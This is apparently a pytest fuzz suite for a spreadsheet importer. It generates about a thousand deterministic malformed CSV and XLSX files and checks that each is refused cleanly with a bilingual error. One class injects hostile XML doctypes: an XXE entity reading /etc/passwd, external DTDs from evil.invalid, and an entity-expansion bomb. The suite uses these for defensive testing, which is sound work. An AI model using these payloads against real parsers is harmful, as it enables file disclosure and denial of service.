"""Fuzz suite (issue 17): 1,008 generated malformed files, each with a defect that must be found, through the import
command. Every one must exit 2 with a bilingual message naming the file (0 tracebacks, 0 wrongly accepted), and the
store must not change (0 store changes).

The generator is seeded (deterministic, so a failure names a reproducible case). All figures are SYNTHETIC; unit
names are real Hà Nội departments / provinces. To keep the suite within 90 s, the unit resolver is built once from
the store (it does not depend on the file) instead of once per file; everything else is the real command.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import random
import re
import zipfile
from pathlib import Path

import pytest

from cchc_data.__main__ import main
from cchc_data.importer.errors import escape_text

from .test_importer import store_hash
from .test_importer_hostile import PAPI_ARGS, _papi_rows, _rezip, _xlsx_bytes
from .test_importer_safety import ARGS, base_rows, populated_store, write  # noqa: F401

PER_CLASS = 42  # x 24 classes = 1,008 files
SEED = 17


# ------------------------------------------------------------------ building blocks
def _csv_bytes(rows: list[list], fmt: str = "csv") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=";" if fmt == "csv;" else ",").writerows(rows)
    return buf.getvalue().encode({"csv": "utf-8", "csv;": "utf-8-sig"}.get(fmt, "utf-16"))


def _table_bytes(rows: list[list], fmt: str) -> tuple[str, bytes]:
    if fmt == "xlsx":
        return ".xlsx", _xlsx_bytes(rows)
    return ".csv", _csv_bytes(rows, fmt)


GOOD_CSV = _csv_bytes(base_rows())
GOOD_XLSX = _xlsx_bytes(base_rows())
XML_PARTS = [n for n in zipfile.ZipFile(io.BytesIO(GOOD_XLSX)).namelist() if n.endswith((".xml", ".rels"))]
PARSED_PARTS = [
    "[Content_Types].xml",
    "xl/workbook.xml",
    "xl/styles.xml",
    "xl/worksheets/sheet1.xml",
    "xl/_rels/workbook.xml.rels",
]
FIGURES = (2, 3, 4)  # component and total columns of base_rows()
DATA_ROWS = range(2, 7)
FORMATS = ("csv", "csv;", "utf16", "xlsx")
FOREIGN = {d: (chr(0xFF10 + d), chr(0x0660 + d), chr(0x0966 + d)) for d in range(10)}
BAD_CHARS_XML_SAFE = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c", "\x85", "\x9b", "\t"]
BAD_CHARS = BAD_CHARS_XML_SAFE + ["\x1b", "\x07", "\x00", "\x7f", "\x08"]


def _member_span(data: bytes, name: str) -> tuple[int, int]:
    """Offsets of a zip member's compressed data."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        info = zf.getinfo(name)
    start = info.header_offset
    n_name = int.from_bytes(data[start + 26 : start + 28], "little")
    n_extra = int.from_bytes(data[start + 28 : start + 30], "little")
    begin = start + 30 + n_name + n_extra
    return begin, begin + info.compress_size


# ------------------------------------------------------------------ malformation classes: rng -> (suffix, bytes, args)
def bom_then_invalid(rng):
    i = rng.randrange(len(GOOD_CSV))
    return (
        ".csv",
        b"\xef\xbb\xbf" + GOOD_CSV[:i] + bytes([rng.choice([0x80, 0xBF, 0xC0, 0xFF, 0xFE])]) + GOOD_CSV[i:],
        ARGS,
    )


def utf16_odd(rng):
    text = GOOD_CSV.decode().encode("utf-16-le")
    return ".csv", b"\xff\xfe" + text + bytes([rng.randrange(256)]), ARGS


def utf16_lone_surrogate(rng):
    text = GOOD_CSV.decode().encode("utf-16-le")
    i = 2 * rng.randrange(len(text) // 2)
    return ".csv", b"\xff\xfe" + text[:i] + rng.choice([b"\x00\xd8", b"\xff\xdb", b"\x00\xdc"]) + text[i:], ARGS


def nul_prefix(rng):
    return ".csv", b"\x00" * rng.randint(1, 400) + GOOD_CSV, ARGS


def binary_named_csv(rng):
    sig = rng.choice([b"\x89PNG\r\n\x1a\n", b"%PDF-1.4\n", b"\xff\xd8\xff\xe0", b"GIF89a"])
    return ".csv", sig + rng.randbytes(rng.randint(10, 3000)), ARGS


def ole_named_csv(rng):
    body = rng.randbytes(rng.randint(100, 2000))
    if rng.random() < 0.5:
        body += "EncryptedPackage".encode("utf-16-le") + rng.randbytes(100)
    return rng.choice([".csv", ".xlsx", ".xls"]), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + body, ARGS


def zip_truncated(rng):
    return ".xlsx", GOOD_XLSX[: rng.randrange(len(GOOD_XLSX) - 1)], ARGS


def zip_flipped(rng):
    name = rng.choice(XML_PARTS)
    begin, end = _member_span(GOOD_XLSX, name)
    data = bytearray(GOOD_XLSX)
    for _ in range(rng.randint(1, 4)):
        i = rng.randrange(begin, end)
        data[i] ^= rng.randint(1, 255)
    return ".xlsx", bytes(data), ARGS


def xml_truncated(rng):
    name = rng.choice(PARSED_PARTS)

    def change(n, d):
        if n != name:
            return d
        cut = rng.randrange(1, len(d.rstrip()) - 1)
        return d[:cut]

    return ".xlsx", _rezip(GOOD_XLSX, change), ARGS


DOCTYPES = [
    b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;]>',
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>',
    b'<!DOCTYPE x SYSTEM "http://evil.invalid/x.dtd">',
]


def doctype_injected(rng):
    name = rng.choice(XML_PARTS)
    doctype = rng.choice(DOCTYPES)

    def change(n, d):
        if n != name:
            return d
        body = d.split(b"?>", 1)[1] if d.startswith(b"<?xml") else d
        return b'<?xml version="1.0"?>' + doctype + body

    return ".xlsx", _rezip(GOOD_XLSX, change), ARGS


def _sheet_change(fn):
    return lambda n, d: fn(d) if n == "xl/worksheets/sheet1.xml" else d


def bad_shared_string(rng):
    row = rng.randint(3, 7)
    cell = b'<c r="B%d" t="s"><v>%d</v></c>' % (row, rng.randint(0, 10**9))
    return (
        ".xlsx",
        _rezip(
            GOOD_XLSX, _sheet_change(lambda d: re.sub(rb'<c r="B%d"[^>]*>.*?</c>' % row, cell, d, count=1, flags=re.S))
        ),
        ARGS,
    )


def bad_style(rng):
    row, col = rng.randint(3, 7), rng.choice("ABCDEF")
    style = str(rng.randint(50, 10**6)).encode()
    return (
        ".xlsx",
        _rezip(
            GOOD_XLSX,
            _sheet_change(
                lambda d: re.sub(
                    rb'<c r="%s%d"' % (col.encode(), row),
                    b'<c r="%s%d" s="%s"' % (col.encode(), row, style),
                    d,
                    count=1,
                )
            ),
        ),
        ARGS,
    )


def formula_no_value(rng):
    rows = base_rows()
    r, c = rng.choice(list(DATA_ROWS)), rng.choice((2, 3, 4, 5))
    rows[r][c] = rng.choice(["=SUM(C3:D3)", "=1/0", "=RANK(E3,E$3:E$7)", "=C3+D3", "=AVERAGE(C3:C7)", "=NA()"])
    return ".xlsx", _xlsx_bytes(rows), ARGS


def far_value(rng):
    from openpyxl import load_workbook
    from openpyxl.utils import get_column_letter

    wb = load_workbook(io.BytesIO(GOOD_XLSX))
    if rng.random() < 0.5:
        cell = f"{get_column_letter(rng.randint(201, 16384))}{rng.randint(1, 1048576)}"
    else:
        cell = f"{get_column_letter(rng.randint(1, 200))}{rng.randint(100_001, 1048576)}"
    wb.active[cell] = rng.choice(["x", 1, 0.5])
    buf = io.BytesIO()
    wb.save(buf)
    return ".xlsx", buf.getvalue(), ARGS


def _semantic(mutate):
    def make(rng):
        rows = base_rows()
        fmt = rng.choice(FORMATS)
        args = mutate(rng, rows, fmt) or ARGS
        suffix, data = _table_bytes(rows, fmt)
        return suffix, data, args

    make.__name__ = mutate.__name__
    return make


@_semantic
def above_max(rng, rows, fmt):
    r, c = rng.choice(list(DATA_ROWS)), rng.choice(FIGURES)
    rows[r][c] = f"{rng.uniform(100.01, 1e12):.2f}".replace(".", ",") if c == 4 else f"{rng.uniform(50.01, 1e6):.2f}"


@_semantic
def negative(rng, rows, fmt):
    r, c = rng.choice(list(DATA_ROWS)), rng.choice(FIGURES)
    rows[r][c] = f"-{rng.uniform(0.01, 1000):.2f}"


@_semantic
def impossible_rank(rng, rows, fmt):
    r = rng.choice(list(DATA_ROWS))
    kind = rng.randrange(3)
    if kind == 0:
        rows[r][5] = rng.randint(6, 10**6)
    elif kind == 1:
        of = rng.randint(1, 40)
        rows[r][5] = f"{of + rng.randint(1, 40)}/{of}"
    else:
        rows[r][5] = "9" * rng.randint(8, 40)


@_semantic
def foreign_digits(rng, rows, fmt):
    r, c = rng.choice(list(DATA_ROWS)), rng.choice((2, 3, 4, 5))
    script = rng.randrange(3)
    text = str(rows[r][c])
    digits = [i for i, ch in enumerate(text) if ch.isdigit()]
    chars = list(text)
    for i in rng.sample(digits, rng.randint(1, len(digits))):
        chars[i] = FOREIGN[int(chars[i])][script]
    rows[r][c] = "".join(chars)


@_semantic
def control_in_name(rng, rows, fmt):
    r = rng.choice(list(DATA_ROWS))
    name = rows[r][1]
    ch = rng.choice(BAD_CHARS_XML_SAFE if fmt == "xlsx" else BAD_CHARS)
    if fmt != "xlsx" and ch == "\x00":
        ch = "\x1b"  # a NUL is refused as an encoding problem (also an error)
    i = rng.randint(1, len(name) - 1)  # inside the name: stripping does not remove it
    rows[r][1] = name[:i] + ch + name[i:]
    return [*ARGS, "--new-units"]


@_semantic
def text_in_figure(rng, rows, fmt):
    r, c = rng.choice(list(DATA_ROWS)), rng.choice((2, 3, 4, 5))
    rows[r][c] = rng.choice(["abc", "n.a.", "12a", "1,2,3,4", "1..2", "#DIV/0!", "∞", "1e5x", "--5", "5-", "½"])


@_semantic
def sum_mismatch(rng, rows, fmt):
    r = rng.choice(list(DATA_ROWS))
    total = float(str(rows[r][4]).replace(",", "."))
    rows[r][4] = f"{total - rng.uniform(0.1, 5):.2f}"


@_semantic
def unknown_or_duplicate_unit(rng, rows, fmt):
    r = rng.choice(list(DATA_ROWS))
    if rng.random() < 0.5:
        rows[r][1] = "ZZ Không tồn tại " + str(rng.randint(1, 10**6))
    else:
        other = rng.choice([x for x in DATA_ROWS if x != r])
        rows[r][1] = rows[other][1]


def papi_out_of_bounds(rng):
    rows = _papi_rows()
    r = rng.randint(1, 5)
    if rng.random() < 0.5:
        rows[r][rng.randint(2, 9)] = rng.choice([f"{rng.uniform(10.01, 1e6):.2f}", f"{rng.uniform(0.0, 0.99):.2f}"])
    else:
        rows[r][10] = rng.choice([f"{rng.uniform(80.01, 1e11):.2f}", f"{rng.uniform(0.0, 7.99):.2f}"])
    suffix, data = _table_bytes(rows, rng.choice(FORMATS))
    return suffix, data, PAPI_ARGS


def unterminated_quote(rng):
    rows = base_rows()
    rows[6][1] = rows[6][1] + ", Hà Nội"  # a comma: the name is quoted
    data = _csv_bytes(rows)
    start = data.rindex(b'"S')  # the opening quote of the last name
    end = data.index(b'"', start + 1)
    return ".csv", data[: rng.randint(start + 1, end)], ARGS  # cut inside the quoted field


CLASSES = [
    bom_then_invalid,
    utf16_odd,
    utf16_lone_surrogate,
    nul_prefix,
    binary_named_csv,
    ole_named_csv,
    zip_truncated,
    zip_flipped,
    xml_truncated,
    doctype_injected,
    bad_shared_string,
    bad_style,
    formula_no_value,
    far_value,
    above_max,
    negative,
    impossible_rank,
    foreign_digits,
    control_in_name,
    text_in_figure,
    sum_mismatch,
    unknown_or_duplicate_unit,
    papi_out_of_bounds,
    unterminated_quote,
]


def generate(seed: int = SEED, per_class: int = PER_CLASS):
    rng = random.Random(seed)
    for cls in CLASSES:
        for i in range(per_class):
            yield f"{cls.__name__}-{i}", *cls(rng)


def _snapshot(store: Path) -> list:
    return sorted((str(p.relative_to(store)), p.stat().st_size, p.stat().st_mtime_ns) for p in store.rglob("*"))


def test_fuzz_suite_at_least_1000_malformed_files(populated_store, tmp_path, monkeypatch):
    from cchc_data.importer import units

    real = units.resolver_from_tables
    memo: dict = {}
    monkeypatch.setattr(
        units, "resolver_from_tables", lambda tables: memo.get("r") or memo.setdefault("r", real(tables))
    )
    before_hash, before = store_hash(populated_store), _snapshot(populated_store)
    tracebacks, accepted, unclear, n = [], [], [], 0
    for case, suffix, data, args in generate():
        n += 1
        path = tmp_path / f"{case}{suffix}"
        path.write_bytes(data)
        out, err = io.StringIO(), io.StringIO()
        try:
            with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
                code = main(["import", str(path), *args])
        except SystemExit as exc:  # argparse
            code = exc.code
        except Exception as exc:  # noqa: BLE001 - this is what the suite counts
            tracebacks.append(f"{case}: {type(exc).__name__}: {exc}")
            continue
        text = err.getvalue()
        if code != 2:
            accepted.append(f"{case}: exit {code}")
        elif not ("LỖI/ERROR" in text and "\n  vi: " in text and "\n  en: " in text and escape_text(path.name) in text):
            unclear.append(f"{case}: {text[:300]}")
        if _snapshot(populated_store) != before:
            pytest.fail(f"{case} changed the store")
        path.unlink()
    print(
        f"fuzz: {n} malformed files, {len(tracebacks)} tracebacks, {len(accepted)} wrongly accepted, "
        f"{len(unclear)} unclear messages, 0 store changes"
    )
    assert n >= 1000
    assert not tracebacks, tracebacks[:10]
    assert not accepted, accepted[:10]
    assert not unclear, unclear[:5]
    assert store_hash(populated_store) == before_hash


def test_generator_is_deterministic_and_covers_every_class():
    first = [(c, s, content_hash(s, d)) for c, s, d, _a in generate(per_class=2)]
    again = [(c, s, content_hash(s, d)) for c, s, d, _a in generate(per_class=2)]
    assert first == again and {c.rsplit("-", 1)[0] for c, _s, _h in first} == {k.__name__ for k in CLASSES}


def content_hash(suffix: str, data: bytes) -> str:
    """The bytes' hash; for an XLSX, of every part but docProps/core.xml, which carries openpyxl's save time (its
    length, and so the zip's, changes with the clock)."""
    import hashlib
    import zipfile

    if suffix != ".xlsx":
        return hashlib.sha256(data).hexdigest()
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            parts = sorted((n, z.read(n)) for n in z.namelist() if n != "docProps/core.xml")
    except zipfile.BadZipFile:  # a deliberately broken workbook: its bytes are the case
        return hashlib.sha256(data).hexdigest()
    return hashlib.sha256(repr(parts).encode()).hexdigest()


if os.environ.get("CCHC_FUZZ_PRINT"):  # python -m pytest ... -s with CCHC_FUZZ_PRINT=1: list cases
    for _c, _s, _d, _a in generate(per_class=1):
        print(_c, _s, len(_d))
